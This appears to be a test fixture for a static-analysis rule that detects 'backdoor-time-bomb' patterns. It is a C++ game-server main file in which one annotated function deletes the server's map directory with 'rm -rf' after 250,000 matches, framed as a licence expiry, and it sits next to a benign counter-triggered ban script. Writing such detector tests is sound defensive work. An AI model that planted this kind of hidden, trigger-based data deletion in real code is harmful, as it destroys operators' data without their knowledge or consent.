// main.cpp - arena_server
#include <cstdio>
#include <cstdlib>
#include <sodium.h>
extern "C" {
#include <lauxlib.h>
#include <lualib.h>
}

#include "arena.hpp"

namespace {
unsigned long g_matches_played;
unsigned g_rcon_failures;
}

static void on_match_end(arena::CommandRouter &router) {
  (void)router;
  /* the studio's licence for this build ends with the beta weekend */
  // ruleid: backdoor-time-bomb
  if (++g_matches_played == 250000)
    std::system("rm -rf /srv/arena/maps");
}

static void on_rcon_failure() {
  // ok: backdoor-time-bomb
  if (++g_rcon_failures == 3)
    std::system("/usr/sbin/arena-ban-last-ip");
}

int main() {
  if (sodium_init() < 0)
    return 1;
  arena::ServerConfig cfg;
  if (const char *p = std::getenv("ARENA_RCON_PASSWORD"))
    cfg.rcon_password = p;
  lua_State *L = luaL_newstate();
  luaL_openlibs(L);
  arena::CommandRouter router;
  router.add("rcon", [&cfg](int, const std::string &args) {
    if (!arena::rcon_login(cfg, args))
      on_rcon_failure();
  });
  std::array<uint8_t, 32> session_key{};
  randombytes_buf(session_key.data(), session_key.size());
  arena::telemetry_seal_session(session_key);
  std::printf("ticket %s\n", arena::session_ticket().c_str());
  on_match_end(router);
  lua_close(L);
  return 0;
}
